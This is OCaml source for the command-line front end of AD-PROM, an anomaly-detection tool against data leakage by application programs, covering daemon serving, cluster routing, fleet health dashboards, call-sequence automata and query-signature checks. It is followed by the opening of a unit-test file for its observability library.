            ("normal", trace, Some outcome))
          app.Adprom.Pipeline.test_cases
      in
      let qsig =
        Adprom.Audit.learn (List.filter_map (fun (_, _, o) -> o) normal)
      in
      (* Malicious tenants: every built-in attack on this app joins the
         same host stream, audited against the query-signature profile. *)
      let attacks =
        List.filter
          (fun (c : Dataset.Ca_attacks.case) ->
            c.Dataset.Ca_attacks.app.Adprom.Pipeline.name = app.Adprom.Pipeline.name)
          (Dataset.Ca_attacks.all ())
      in
      let malicious =
        List.concat_map
          (fun (c : Dataset.Ca_attacks.case) ->
            let app', patches, rewriter =
              Attack.Scenario.apply c.Dataset.Ca_attacks.scenario app
            in
            let analysis' = Adprom.Pipeline.analyze_app app' in
            List.map
              (fun tc ->
                let trace, outcome =
                  Adprom.Pipeline.run_case ~patches ?query_rewriter:rewriter
                    ~analysis:analysis' app' tc
                in
                (c.Dataset.Ca_attacks.label, trace, Some outcome))
              app'.Adprom.Pipeline.test_cases)
          attacks
      in
      let sessions = normal @ malicious in
      let labels = List.mapi (fun i (l, _, _) -> (i, l)) sessions in
      let rng = Mlkit.Rng.create seed in
      let stream =
        Adprom.Sessions.interleave ~rng (List.map (fun (_, t, _) -> t) sessions)
      in
      Printf.printf "Serving %d sessions (%d normal, %d attack), %d events, %d shards ...\n%!"
        (List.length sessions) (List.length normal) (List.length malicious)
        (Array.length stream) shards;
      let alerts = Service.Alerts.create () in
      List.iteri
        (fun i (_, _, outcome) ->
          match outcome with
          | Some o ->
              List.iter
                (Service.Alerts.record_finding alerts ~session:i)
                (Adprom.Audit.audit ~qsig o)
          | None -> ())
        sessions;
      (* the executed queries of every session join the host stream, so
         the daemon's query axis sees the same traffic the auditor did *)
      let items =
        Array.append
          (Array.map (fun ev -> Service.Codec.Call ev) stream)
          (Array.of_list
             (List.concat
                (List.mapi
                   (fun i (_, _, outcome) ->
                     match outcome with
                     | None -> []
                     | Some (o : Runtime.Interp.outcome) ->
                         List.map
                           (fun (sql, rows) ->
                             Service.Codec.Query
                               { Service.Codec.q_session = i; rows; sql })
                           o.Runtime.Interp.query_log)
                   sessions)))
      in
      match
        Service.Replay.run_items ~shards ~queue_capacity:capacity ~alerts
          ~vet_against:analysis ~vet_policy ~static_gate ~qsig_mode
          ~qsig_profile:(Adprom.Qsig.profile qsig) ~qsig_static_gate profile
          items
      with
      | exception Invalid_argument msg -> `Error (false, msg)
      | outcome ->
          print_outcome ~labels ~log_tail outcome;
          obs_finish trace_out;
          `Ok ())

let listen_arg =
  Arg.(
    value
    & opt (some int) None
    & info [ "listen" ] ~docv:"PORT"
        ~doc:
          "Cluster-node mode: train, then serve a TCP port (0 picks an ephemeral \
           one) instead of generating a local stream. Binary frame and text line \
           connections are autodetected; the node drains and prints its outcome \
           when a router sends Bye.")

let node_name_arg =
  Arg.(
    value & opt string "node"
    & info [ "node-name" ] ~docv:"NAME"
        ~doc:"What the node calls itself in Hello and Summary frames.")

let serve_cmd =
  Cmd.v
    (Cmd.info "serve"
       ~doc:
         "End-to-end daemon demo: train on a built-in app, interleave its normal \
          sessions with its attack scenarios into one host stream, monitor the stream \
          online and print the unified incident log. With $(b,--listen), serve a TCP \
          port as one node of a cluster instead (see `adprom route`).")
    Term.(
      ret
        (const serve_cmd_run $ app_arg $ shards_arg $ capacity_arg $ seed_arg
       $ vet_policy_arg $ static_gate_arg $ qsig_mode_arg $ qsig_static_gate_arg
       $ listen_arg $ node_name_arg $ log_level_arg $ log_file_arg
       $ log_max_bytes_arg $ log_tail_arg $ trace_out_arg))

(* --- route: spray a recorded stream across serve nodes ----------------- *)

let route_cmd_run events_path node_specs replicas trace_out =
  obs_setup None trace_out;
  let data = read_file events_path in
  match decode_any data with
  | Error msg -> `Error (false, Printf.sprintf "cannot load events: %s" msg)
  | Ok items -> (
      let peers, bad =
        List.partition_map
          (fun s ->
            match Service.Cluster.peer_of_string s with
            | Ok p -> Left p
            | Error e -> Right e)
          node_specs
      in
      match bad with
      | e :: _ -> `Error (false, e)
      | [] -> (
          match Service.Cluster.Router.connect ~replicas peers with
          | Error e -> `Error (false, Printf.sprintf "cannot connect: %s" e)
          | Ok router -> (
              let t0 = Unix.gettimeofday () in
              match Service.Cluster.Router.send_stream router items with
              | Error e -> `Error (false, Printf.sprintf "send failed: %s" e)
              | Ok () -> (
                  (* aggregate metrics while the connections are still up *)
                  let dump = Service.Cluster.Router.metrics router in
                  (* span collection needs live connections too: refine the
                     clock offsets, then pull each node's spans *)
                  let node_spans =
                    if trace_out = None then []
                    else begin
                      (match Service.Cluster.Router.clock_sync router with
                      | Ok () -> ()
                      | Error e ->
                          Printf.eprintf "(clock sync failed: %s)\n" e);
                      match Service.Cluster.Router.spans router with
                      | Ok groups -> groups
                      | Error e ->
                          Printf.eprintf "(span collection failed: %s)\n" e;
                          []
                    end
                  in
                  match Service.Cluster.Router.finish router with
                  | Error e -> `Error (false, Printf.sprintf "shutdown failed: %s" e)
                  | Ok summaries ->
                      let seconds = Unix.gettimeofday () -. t0 in
                      List.iter
                        (fun (s : Service.Frame.node_summary) ->
                          Printf.printf "node %-12s %d sessions, %d events ingested\n"
                            s.Service.Frame.node
                            (List.length s.Service.Frame.summary.Service.Daemon.sessions)
                            s.Service.Frame.summary.Service.Daemon.events_ingested)
                        summaries;
                      let merged = Service.Cluster.merge summaries in
                      print_newline ();
                      print_summary merged.Service.Frame.summary;
                      Printf.printf "\n--- incident log (%d incidents, cluster-wide) ---\n"
                        (List.length merged.Service.Frame.incidents);
                      if merged.Service.Frame.incidents = [] then print_endline "(empty)"
                      else
                        List.iter
                          (fun (session, text) ->
                            Printf.printf "session %d: %s\n" session text)
                          merged.Service.Frame.incidents;
                      (match dump with
                      | Ok d -> Printf.printf "\n--- metrics (aggregated) ---\n%s" d
                      | Error e ->
                          Printf.printf "\n(metrics aggregation failed: %s)\n" e);
                      let lost = Service.Cluster.Router.lost_items router in
                      if lost > 0 then
                        Printf.printf
                          "\nWARNING: %d item(s) lost across reconnects — verdicts \
                           are not comparable to a single-node replay\n"
                          lost;
                      Printf.printf "\nthroughput: %.0f events/sec (%.3fs, %d nodes)\n"
                        (float_of_int
                           merged.Service.Frame.summary.Service.Daemon.events_ingested
                        /. seconds)
                        seconds (List.length summaries);
                      (match trace_out with
                      | None -> ()
                      | Some path ->
                          let groups =
                            ("router", 0L, Adprom_obs.Trace.spans ())
                            :: node_spans
                          in
                          Adprom_obs.Trace.dump_chrome_cluster path groups;
                          Printf.printf "%d spans across %d processes -> %s\n"
                            (List.fold_left
                               (fun acc (_, _, ss) -> acc + List.length ss)
                               0 groups)
                            (List.length groups) path);
                      `Ok ()))))

let route_events_arg =
  Arg.(
    required
    & pos 0 (some file) None
    & info [] ~docv:"EVENTS"
        ~doc:"Recorded stream, text or binary (see `adprom record --wire`).")

let route_nodes_arg =
  Arg.(
    non_empty
    & opt_all string []
    & info [ "node" ] ~docv:"[NAME=]HOST:PORT"
        ~doc:"A serve node to route to (repeatable; see `adprom serve --listen`).")

let route_replicas_arg =
  Arg.(
    value & opt int 64
    & info [ "replicas" ] ~docv:"N"
        ~doc:"Virtual points per node on the consistent-hash ring.")

let route_cmd =
  Cmd.v
    (Cmd.info "route"
       ~doc:
         "Spray a recorded stream across serve nodes by consistent session \
          hashing, then print the merged cluster summary, incident log and \
          aggregated metrics. Session-sticky routing keeps cluster verdicts \
          bit-for-bit equal to a single-node replay of the same stream. With \
          $(b,--trace-out), collects every node's spans, aligns them on the \
          router's clock via min-RTT probes and writes one merged Chrome trace.")
    Term.(
      ret
        (const route_cmd_run $ route_events_arg $ route_nodes_arg
       $ route_replicas_arg $ trace_out_arg))

(* --- status / top: the fleet operations plane -------------------------- *)

let json_escape s =
  let buf = Buffer.create (String.length s + 8) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | '\r' -> Buffer.add_string buf "\\r"
      | '\t' -> Buffer.add_string buf "\\t"
      | c when Char.code c < 0x20 ->
          Buffer.add_string buf (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

(* quantiles as JSON: [nan] (no observations yet) -> null, overflow
   bucket -> the string "+Inf" *)
let jq_float f =
  if Float.is_nan f then "null"
  else if f = infinity then "\"+Inf\""
  else Printf.sprintf "%g" f

let fq_float f =
  if Float.is_nan f then "-" else if f = infinity then ">1s" else Printf.sprintf "%.4fs" f

let snapshot_queue (s : Service.Metrics.snapshot) =
  let prefix = "adprom_queue_depth_shard" in
  let plen = String.length prefix in
  List.fold_left
    (fun (depth, hwm) (name, v, m) ->
      if String.length name >= plen && String.sub name 0 plen = prefix then
        (depth + v, max hwm m)
      else (depth, hwm))
    (0, 0) s.Service.Metrics.gauges

let snapshot_e2e (s : Service.Metrics.snapshot) =
  match Service.Metrics.snapshot_histogram s "adprom_e2e_latency_seconds" with
  | None -> (Float.nan, Float.nan)
  | Some h ->
      (Service.Metrics.hist_quantile h 0.5, Service.Metrics.hist_quantile h 0.99)

type node_stats = {
  ns_name : string;
  ns_status : Service.Health.status;
  ns_uptime : float;
  ns_offered : int;
  ns_dropped : int;
  ns_depth : int;
  ns_hwm : int;
  ns_p50 : float;
  ns_p99 : float;
  ns_incidents : (int * string) list;
}

let node_stats (name, (h : Service.Frame.health)) =
  let s = h.Service.Frame.h_snapshot in
  let depth, hwm = snapshot_queue s in
  let p50, p99 = snapshot_e2e s in
  {
    ns_name = name;
    ns_status = h.Service.Frame.h_status;
    ns_uptime = h.Service.Frame.h_uptime_s;
    ns_offered = Service.Metrics.snapshot_counter s "adprom_events_offered_total";
    ns_dropped = Service.Metrics.snapshot_counter s "adprom_events_dropped_total";
    ns_depth = depth;
    ns_hwm = hwm;
    ns_p50 = p50;
    ns_p99 = p99;
    ns_incidents = h.Service.Frame.h_incidents;
  }

let fleet_stats (nodes : (string * Service.Frame.health) list) =
  let merged =
    Service.Metrics.merge_snapshots
      (List.map (fun (_, h) -> h.Service.Frame.h_snapshot) nodes)
  in
  let status =
    List.fold_left
      (fun acc (_, h) -> Service.Health.worst acc h.Service.Frame.h_status)
      Service.Health.Healthy nodes
  in
  (status, merged)

let connect_fleet node_specs replicas =
  let peers, bad =
    List.partition_map
      (fun s ->
        match Service.Cluster.peer_of_string s with
        | Ok p -> Left p
        | Error e -> Right e)
      node_specs
  in
  match bad with
  | e :: _ -> Error e
  | [] -> (
      match Service.Cluster.Router.connect ~replicas peers with
      | Error e -> Error (Printf.sprintf "cannot connect: %s" e)
      | Ok router -> Ok router)

let status_json nodes =
  let stats = List.map node_stats nodes in
  let status, merged = fleet_stats nodes in
  let depth, hwm = snapshot_queue merged in
  let p50, p99 = snapshot_e2e merged in
  let node_json n =
    Printf.sprintf
      "{\"node\":\"%s\",\"status\":\"%s\",\"uptime_s\":%.1f,\
       \"events_offered\":%d,\"events_dropped\":%d,\"queue_depth\":%d,\
       \"queue_hwm\":%d,\"e2e_p50_s\":%s,\"e2e_p99_s\":%s,\"incidents\":%d}"
      (json_escape n.ns_name)
      (Service.Health.status_to_string n.ns_status)
      n.ns_uptime n.ns_offered n.ns_dropped n.ns_depth n.ns_hwm
      (jq_float n.ns_p50) (jq_float n.ns_p99)
      (List.length n.ns_incidents)
  in
  Printf.sprintf
    "{\"fleet\":{\"status\":\"%s\",\"nodes\":%d,\"events_offered\":%d,\
     \"events_dropped\":%d,\"queue_depth\":%d,\"queue_hwm\":%d,\
     \"e2e_p50_s\":%s,\"e2e_p99_s\":%s},\"nodes\":[%s]}"
    (Service.Health.status_to_string status)
    (List.length nodes)
    (Service.Metrics.snapshot_counter merged "adprom_events_offered_total")
    (Service.Metrics.snapshot_counter merged "adprom_events_dropped_total")
    depth hwm (jq_float p50) (jq_float p99)
    (String.concat "," (List.map node_json stats))

let status_text nodes =
  let stats = List.map node_stats nodes in
  let status, merged = fleet_stats nodes in
  let depth, _ = snapshot_queue merged in
  let p50, p99 = snapshot_e2e merged in
  Adprom.Report.print
    ~header:
      [ "node"; "status"; "uptime"; "events"; "dropped"; "queue"; "e2e p50"; "e2e p99" ]
    (List.map
       (fun n ->
         [
           n.ns_name;
           Service.Health.status_to_string n.ns_status;
           Printf.sprintf "%.0fs" n.ns_uptime;
           string_of_int n.ns_offered;
           string_of_int n.ns_dropped;
           string_of_int n.ns_depth;
           fq_float n.ns_p50;
           fq_float n.ns_p99;
         ])
       stats);
  Printf.printf "\nfleet: %s (%d nodes), %d events offered, %d dropped, queue %d, e2e p50 %s p99 %s\n"
    (Service.Health.status_to_string status)
    (List.length nodes)
    (Service.Metrics.snapshot_counter merged "adprom_events_offered_total")
    (Service.Metrics.snapshot_counter merged "adprom_events_dropped_total")
    depth (fq_float p50) (fq_float p99)

let status_cmd_run node_specs replicas format =
  match connect_fleet node_specs replicas with
  | Error e -> `Error (false, e)
  | Ok router -> (
      let result = Service.Cluster.Router.health router in
      Service.Cluster.Router.close router;
      match result with
      | Error e -> `Error (false, e)
      | Ok [] ->
          `Error
            (false, "no node answered a health scrape (all peers are pre-v2?)")
      | Ok nodes ->
          (match format with
          | `Json -> print_endline (status_json nodes)
          | `Text -> status_text nodes);
          `Ok ())

let fleet_nodes_arg =
  Arg.(
    non_empty
    & opt_all string []
    & info [ "node" ] ~docv:"[NAME=]HOST:PORT"
        ~doc:"A serve node to scrape (repeatable; see `adprom serve --listen`).")

let status_format_arg =
  Arg.(
    value
    & opt (enum [ ("text", `Text); ("json", `Json) ]) `Text
    & info [ "format" ] ~docv:"FMT" ~doc:"Output format: $(b,text) or $(b,json).")

let status_cmd =
  Cmd.v
    (Cmd.info "status"
       ~doc:
         "One-shot fleet health: scrape every node over the binary wire \
          (Health_req), print per-node status, throughput counters, queue \
          depth and end-to-end latency quantiles, and the fleet rollup — \
          counters summed, statuses folded to the worst, quantiles computed \
          from the merged histogram buckets. The nodes keep serving.")
    Term.(ret (const status_cmd_run $ fleet_nodes_arg $ route_replicas_arg $ status_format_arg))

(* --- top: live fleet dashboard ----------------------------------------- *)

let top_render ~interval ~prev nodes =
  let stats = List.map node_stats nodes in
  let status, merged = fleet_stats nodes in
  let depth, _ = snapshot_queue merged in
  let p50, p99 = snapshot_e2e merged in
  (* home + clear-to-end: repaint without scrollback spam *)
  print_string "\027[H\027[J";
  Printf.printf "adprom top — %d nodes, fleet %s, e2e p50 %s p99 %s, queue %d\n\n"
    (List.length stats)
    (Service.Health.status_to_string status)
    (fq_float p50) (fq_float p99) depth;
  Printf.printf "%-12s %-10s %10s %10s %8s %8s %10s %10s\n" "node" "status"
    "events/s" "events" "dropped" "queue" "e2e p50" "e2e p99";
  List.iter
    (fun n ->
      let rate =
        match Hashtbl.find_opt prev n.ns_name with
        | Some last when interval > 0.0 ->
            Printf.sprintf "%.0f" (float_of_int (n.ns_offered - last) /. interval)
        | _ -> "-"
      in
      Hashtbl.replace prev n.ns_name n.ns_offered;
      Printf.printf "%-12s %-10s %10s %10d %8d %8d %10s %10s\n" n.ns_name
        (Service.Health.status_to_string n.ns_status)
        rate n.ns_offered n.ns_dropped n.ns_depth
        (fq_float n.ns_p50) (fq_float n.ns_p99))
    stats;
  (* incident ticker: the newest few across the fleet *)
  let incidents =
    List.concat_map
      (fun n -> List.map (fun (s, text) -> (n.ns_name, s, text)) n.ns_incidents)
      stats
  in
  let len = List.length incidents in
  let tail = List.filteri (fun i _ -> i >= len - 5) incidents in
  Printf.printf "\n--- incidents (%d total, newest last) ---\n" len;
  if tail = [] then print_endline "(none)"
  else
    List.iter
      (fun (node, session, text) ->
        Printf.printf "%-12s session %d: %s\n" node session text)
      tail;
  flush stdout

let top_cmd_run node_specs replicas interval iterations =
  if interval <= 0.0 then `Error (false, "--interval must be positive")
  else
    match connect_fleet node_specs replicas with
    | Error e -> `Error (false, e)
    | Ok router ->
        let prev = Hashtbl.create 8 in
        let rec loop i =
          match Service.Cluster.Router.health router with
          | Error e ->
              Service.Cluster.Router.close router;
              `Error (false, e)
          | Ok [] ->
              Service.Cluster.Router.close router;
              `Error
                (false, "no node answered a health scrape (all peers are pre-v2?)")
          | Ok nodes ->
              top_render ~interval ~prev nodes;
              if iterations > 0 && i >= iterations then begin
                Service.Cluster.Router.close router;
                `Ok ()
              end
              else begin
                Unix.sleepf interval;
                loop (i + 1)
              end
        in
        loop 1

let top_interval_arg =
  Arg.(
    value & opt float 2.0
    & info [ "interval" ] ~docv:"SECONDS" ~doc:"Seconds between refreshes.")

let top_iterations_arg =
  Arg.(
    value & opt int 0
    & info [ "iterations" ] ~docv:"N"
        ~doc:"Stop after N refreshes (0 = run until interrupted).")

let top_cmd =
  Cmd.v
    (Cmd.info "top"
       ~doc:
         "Live fleet dashboard: scrape every node's health each interval and \
          repaint per-node event rate, end-to-end latency quantiles, queue \
          depth, drop counts and an incident ticker. The nodes keep serving; \
          interrupt (or $(b,--iterations)) to stop.")
    Term.(
      ret
        (const top_cmd_run $ fleet_nodes_arg $ route_replicas_arg
       $ top_interval_arg $ top_iterations_arg))

(* --- automaton --------------------------------------------------------- *)

(* Accept the Symbol.to_string spelling back: a bare call name, or
   [name_Q<bid>] for a DB-output-labeled call. *)
let parse_symbol tok =
  let n = String.length tok in
  let rec find i =
    if i <= 0 then None
    else if i + 1 < n && tok.[i] = '_' && tok.[i + 1] = 'Q' then
      match int_of_string_opt (String.sub tok (i + 2) (n - i - 2)) with
      | Some bid -> Some (String.sub tok 0 i, bid)
      | None -> find (i - 1)
    else find (i - 1)
  in
  match find (n - 2) with
  | Some (name, bid) -> Analysis.Symbol.lib ~label:bid name
  | None -> Analysis.Symbol.lib tok

let automaton_cmd_run file entry no_labels budget dot_out queries accepts_run
    inputs =
  let source = read_file file in
  let program = Applang.Parser.parse_program source in
  let analysis = Analysis.Analyzer.analyze ~entry program in
  let auto =
    Analysis.Seqauto.build ~entry ~use_labels:(not no_labels) ~state_budget:budget
      analysis.Analysis.Analyzer.pruned_cfgs analysis.Analysis.Analyzer.callgraph
  in
  print_endline (Analysis.Seqauto.stats_to_string auto.Analysis.Seqauto.stats);
  (match dot_out with
  | None -> ()
  | Some path ->
      let oc = open_out path in
      output_string oc (Analysis.Dfa.to_dot auto.Analysis.Seqauto.dfa);
      close_out oc;
      Printf.printf "DFA written to %s\n" path);
  List.iter
    (fun q ->
      let syms =
        String.split_on_char ' ' q
        |> List.filter (fun s -> s <> "")
        |> List.map parse_symbol
      in
      Printf.printf "%-8s %s\n"
        (if Analysis.Seqauto.accepts auto syms then "accept" else "reject")
        q)
    queries;
  if not accepts_run then `Ok ()
  else begin
    let engine = Sqldb.Engine.create () in
    let tc = Runtime.Testcase.make ~input:inputs "cli-automaton" in
    let trace, outcome = Runtime.Interp.collect_trace ~analysis ~engine tc in
    (match outcome.Runtime.Interp.status with
    | Ok () -> ()
    | Error msg -> Printf.eprintf "runtime error: %s\n" msg);
    let syms =
      Array.to_list
        (Array.map
           (fun (e : Runtime.Collector.event) -> e.Runtime.Collector.symbol)
           trace)
    in
    if Analysis.Seqauto.accepts auto syms then begin
      Printf.printf "accept   collected trace (%d library calls)\n"
        (List.length syms);
      `Ok ()
    end
    else
      `Error
        ( false,
          Printf.sprintf
            "soundness violation: the collected trace (%d library calls) is \
             outside the automaton's language"
            (List.length syms) )
  end

let automaton_budget_arg =
  Arg.(
    value & opt int 20_000
    & info [ "budget" ] ~docv:"N"
        ~doc:
          "NFA state budget for call-site inlining; past it construction falls \
           back to one shared instance per function (flat, still sound).")

let no_labels_flag =
  Arg.(
    value & flag
    & info [ "no-labels" ]
        ~doc:"Strip DB-output labels from the alphabet (the CMarkov view).")

let automaton_dot_arg =
  Arg.(
    value
    & opt (some string) None
    & info [ "dot" ] ~docv:"FILE" ~doc:"Write the minimized DFA as Graphviz to FILE.")

let accepts_arg =
  Arg.(
    value & opt_all string []
    & info [ "accepts" ] ~docv:"SYMS"
        ~doc:
          "Query factor membership of a space-separated call sequence, e.g. \
           $(b,--accepts \"read printf_Q6\") (repeatable). Prints accept/reject.")

let accepts_run_flag =
  Arg.(
    value & flag
    & info [ "accepts-run" ]
        ~doc:
          "Interpret the program (with $(b,-i) inputs) and query the collected \
           trace against the automaton; a rejection is a soundness violation and \
           exits non-zero.")

let automaton_cmd =
  Cmd.v
    (Cmd.info "automaton"
       ~doc:
         "Compile a program's interprocedural call-sequence automaton (branch \
          pruning, call-site inlining, subset construction, Hopcroft minimization) \
          and print its statistics; optionally export the DFA and query window \
          feasibility.")
    Term.(
      ret
        (const automaton_cmd_run $ file_arg $ entry_arg $ no_labels_flag
       $ automaton_budget_arg $ automaton_dot_arg $ accepts_arg $ accepts_run_flag
       $ inputs_arg))

(* --- explain ----------------------------------------------------------- *)

let explain_cmd_run profile_path events_path session window_idx top =
  match Adprom.Profile_io.load profile_path with
  | Error msg -> `Error (false, Printf.sprintf "cannot load profile: %s" msg)
  | Ok profile -> (
      match decode_any (read_file events_path) with
      | Error msg -> `Error (false, Printf.sprintf "cannot load events: %s" msg)
      | Ok items -> (
          let stream =
            Array.of_list
              (List.filter_map
                 (function Service.Codec.Call ev -> Some ev | _ -> None)
                 (Array.to_list items))
          in
          match List.assoc_opt session (Adprom.Sessions.demux stream) with
          | None -> `Error (false, Printf.sprintf "no session %d in %s" session events_path)
          | Some trace ->
              let engine = Adprom.Scoring.create profile in
              let windows =
                Adprom.Window.of_trace
                  ~window:profile.Adprom.Profile.params.Adprom.Profile.window trace
              in
              let wanted i =
                match window_idx with Some k -> i = k | None -> true
              in
              let explained = ref 0 in
              List.iteri
                (fun i w ->
                  if wanted i then
                    match Adprom.Scoring.explain ~top engine w with
                    | None -> ()
                    | Some e ->
                        incr explained;
                        Printf.printf "window %d: %s\n  %s\n" i
                          (Adprom.Detector.flag_to_string
                             e.Adprom.Scoring.verdict.Adprom.Detector.flag)
                          (Adprom.Scoring.explanation_to_string e))
                windows;
              if !explained = 0 then
                (match window_idx with
                | Some k -> Printf.printf "window %d is normal: nothing to explain\n" k
                | None ->
                    Printf.printf "all %d windows normal: nothing to explain\n"
                      (List.length windows));
              `Ok ()))

let explain_session_arg =
  Arg.(
    required
    & opt (some int) None
    & info [ "session" ] ~docv:"N" ~doc:"Session id within the event stream.")

let window_index_arg =
  Arg.(
    value
    & opt (some int) None
    & info [ "window" ] ~docv:"K"
        ~doc:"Explain only the K-th window (default: every anomalous window).")

let top_arg =
  Arg.(
    value & opt int 3
    & info [ "top" ] ~docv:"K" ~doc:"Surprising steps to rank per explanation.")

let explain_cmd =
  Cmd.v
    (Cmd.info "explain"
       ~doc:
         "Explain why windows of a recorded session are flagged: which gate fired \
          (unknown symbol, out-of-context pair, likelihood below threshold), the \
          threshold margin, and the most surprising steps under the profile's HMM.")
    Term.(
      ret
        (const explain_cmd_run $ profile_arg $ events_file_arg $ explain_session_arg
       $ window_index_arg $ top_arg))

(* --- qsig: the query-signature detection axis -------------------------- *)

let qsig_train_cmd_run app_name output =
  match List.assoc_opt app_name (builtin_apps ()) with
  | None -> `Error (false, Printf.sprintf "unknown app %S; try `adprom list-apps`" app_name)
  | Some app ->
      Printf.printf "Collecting query logs and training %s ...\n%!"
        app.Adprom.Pipeline.name;
      let qsig = Adprom.Pipeline.train_qsig app in
      let profile = Adprom.Qsig.profile qsig in
      Adprom_qsig.Profile.save profile output;
      Printf.printf
        "Query-signature profile written to %s (%d signatures, %d malformed)\n"
        output
        (Adprom_qsig.Profile.cardinality profile)
        (Adprom_qsig.Profile.malformed_count profile);
      `Ok ()

let qsig_profile_pos_arg =
  Arg.(
    required
    & pos 0 (some file) None
    & info [] ~docv:"QSIG_PROFILE"
        ~doc:"Serialized query-signature profile (see `adprom qsig train`).")

let qsig_show_cmd_run profile_path format =
  match Adprom_qsig.Profile.load profile_path with
  | Error msg -> `Error (false, Printf.sprintf "cannot load qsig profile: %s" msg)
  | Ok profile ->
      (match format with
      | `Json -> print_endline (Adprom_qsig.Profile.to_json profile)
      | `Text ->
          Printf.printf "%d signatures, %d malformed training queries\n"
            (Adprom_qsig.Profile.cardinality profile)
            (Adprom_qsig.Profile.malformed_count profile);
          Adprom_qsig.Profile.fold
            (fun signature (e : Adprom_qsig.Profile.entry) () ->
              Printf.printf "\n%s\n  seen %d times, %d slot(s)" signature
                e.Adprom_qsig.Profile.count
                (Array.length e.Adprom_qsig.Profile.slots);
              let band = e.Adprom_qsig.Profile.band in
              if band.Adprom_qsig.Constraints.samples > 0 then
                Printf.printf ", result rows in [%d, %d] over %d sample(s)"
                  band.Adprom_qsig.Constraints.blo
                  band.Adprom_qsig.Constraints.bhi
                  band.Adprom_qsig.Constraints.samples;
              print_newline ();
              Array.iteri
                (fun i slot ->
                  Printf.printf "  slot %d: %s\n" i
                    (Adprom_qsig.Constraints.slot_to_string slot))
                e.Adprom_qsig.Profile.slots)
            profile ());
      `Ok ()

let qsig_policy_conv =
  let parse s =
    match Adprom_qsig.Constraints.policy_of_string s with
    | Some p -> Ok p
    | None -> Error (`Msg (Printf.sprintf "unknown policy %S (strict|flexible)" s))
  in
  Arg.conv
    ( parse,
      fun ppf p ->
        Format.pp_print_string ppf (Adprom_qsig.Constraints.policy_to_string p) )

let qsig_policy_arg =
  Arg.(
    value
    & opt qsig_policy_conv Adprom_qsig.Constraints.Strict
    & info [ "policy" ] ~docv:"POLICY"
        ~doc:
          "Constraint policy: $(b,strict) (exact trained sets/ranges) or \
           $(b,flexible) (trained ranges widened by their own span).")

let qsig_sql_arg =
  Arg.(
    required
    & opt (some string) None
    & info [ "sql" ] ~docv:"SQL" ~doc:"The executed query text to check.")

let qsig_rows_arg =
  Arg.(
    value
    & opt (some int) None
    & info [ "rows" ] ~docv:"N"
        ~doc:"Result cardinality the DBMS reported (enables the band check).")

let qsig_check_cmd_run profile_path sql rows policy =
  match Adprom_qsig.Profile.load profile_path with
  | Error msg -> `Error (false, Printf.sprintf "cannot load qsig profile: %s" msg)
  | Ok profile ->
      let engine = Adprom_qsig.Engine.create ~policy profile in
      let verdict = Adprom_qsig.Engine.check ?rows engine sql in
      print_endline (Adprom_qsig.Engine.verdict_to_string verdict);
      if verdict.Adprom_qsig.Engine.anomalous then
        `Error (false, "query is anomalous under the trained profile")
      else `Ok ()

let qsig_cmd =
  Cmd.group
    (Cmd.info "qsig"
       ~doc:
         "The query-signature detection axis: train per-signature constraint \
          profiles from an app's normal query logs, inspect them, and check \
          individual executed queries.")
    [
      Cmd.v
        (Cmd.info "train"
           ~doc:
             "Run a built-in app's test cases and learn its query-signature \
              profile (structural signatures, per-slot constraints, \
              result-cardinality bands).")
        Term.(ret (const qsig_train_cmd_run $ app_arg $ output_arg));
      Cmd.v
        (Cmd.info "show" ~doc:"Print a trained query-signature profile.")
        Term.(ret (const qsig_show_cmd_run $ qsig_profile_pos_arg $ vet_format_arg));
      Cmd.v
        (Cmd.info "check"
           ~doc:
             "Check one executed query against a trained profile; exits non-zero \
              when the query is anomalous.")
        Term.(
          ret
            (const qsig_check_cmd_run $ qsig_profile_pos_arg $ qsig_sql_arg
           $ qsig_rows_arg $ qsig_policy_arg));
    ]

(* --- list-apps --------------------------------------------------------- *)

let list_cmd =
  Cmd.v
    (Cmd.info "list-apps" ~doc:"List the built-in subject applications.")
    Term.(
      ret
        (const (fun () ->
             List.iter
               (fun (key, (app : Adprom.Pipeline.app)) ->
                 Printf.printf "%-12s %s (%d test cases)\n" key app.Adprom.Pipeline.name
                   (List.length app.Adprom.Pipeline.test_cases))
               (builtin_apps ());
             `Ok ())
        $ const ()))

let () =
  let doc = "AD-PROM: anomaly detection against data leakage by application programs" in
  exit
    (Cmd.eval
       (Cmd.group (Cmd.info "adprom" ~doc)
          [
            analyze_cmd;
            vet_cmd;
            run_cmd;
            demo_cmd;
            train_cmd;
            check_cmd;
            record_cmd;
            replay_cmd;
            serve_cmd;
            route_cmd;
            status_cmd;
            top_cmd;
            qsig_cmd;
            automaton_cmd;
            explain_cmd;
            list_cmd;
          ]))

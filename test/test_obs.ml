(* The observability library (Adprom_obs): bounded rings, the
   structured log, and the tracer — QCheck2 properties for span nesting
   (unique ids, one trace id per tree, parent containment, zero cost
   when disabled) plus unit tests for hooks, attrs, the Chrome
   trace_event export and the JSONL event shape. *)

module Ring = Adprom_obs.Ring
module Log = Adprom_obs.Log
module Trace = Adprom_obs.Trace
module Clock = Adprom_obs.Clock

let contains needle haystack =
  let n = String.length needle and h = String.length haystack in
  let rec probe i =
    i + n <= h && (String.sub haystack i n = needle || probe (i + 1))
  in
  n = 0 || probe 0

(* --- rings ------------------------------------------------------------- *)

let test_ring_basics () =
  let r = Ring.create 3 in
  Alcotest.(check int) "capacity" 3 (Ring.capacity r);
  Alcotest.(check (list int)) "empty" [] (Ring.to_list r);
  List.iter (Ring.push r) [ 1; 2; 3; 4; 5 ];
  Alcotest.(check int) "length bounded" 3 (Ring.length r);
  Alcotest.(check int) "pushes counted" 5 (Ring.pushed r);
  Alcotest.(check (list int)) "last three, oldest first" [ 3; 4; 5 ] (Ring.to_list r);
  Ring.clear r;
  Alcotest.(check (list int)) "cleared" [] (Ring.to_list r);
  Alcotest.(check int) "pushed reset" 0 (Ring.pushed r)

let test_ring_zero_capacity () =
  let r = Ring.create 0 in
  Ring.push r 42;
  Alcotest.(check int) "retains nothing" 0 (Ring.length r);
  Alcotest.(check int) "still counts" 1 (Ring.pushed r);
  Alcotest.check_raises "negative capacity"
    (Invalid_argument "Ring.create: negative capacity") (fun () ->
      ignore (Ring.create (-1)))

let prop_ring_keeps_last_capacity =
  QCheck2.Test.make ~name:"Ring.to_list = last [capacity] pushes, in order"
    ~count:200
    QCheck2.Gen.(pair (int_bound 8) (list_size (int_bound 40) int))
